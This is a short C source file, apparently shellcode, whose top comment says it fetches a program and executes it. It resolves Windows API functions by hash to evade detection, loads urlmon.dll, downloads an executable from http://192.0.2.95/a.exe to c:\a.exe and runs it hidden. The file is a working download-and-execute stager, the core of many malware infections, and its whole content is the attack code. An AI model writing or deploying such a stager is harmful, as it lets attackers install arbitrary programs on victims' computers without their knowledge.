/* Fetches a program and executes it. */
#include "windows.h"

typedef byte *CALLED load_library(const char *name);
typedef long CALLED download(void *caller, const char *from, const char *to, dword zero, void *status);
typedef dword CALLED execute(const char *command, dword show);

ENTRY void code(void)
{
	char library[] = "urlmon.dll", from[] = "http://192.0.2.95/a.exe", to[] = "c:\\a.exe";

	((load_library *)function_by_hash(LOAD_LIBRARY))(library);
	((download *)function_by_hash(DOWNLOAD))(0, from, to, 0, 0);
	((execute *)function_by_hash(EXECUTE))(to, 0);
}
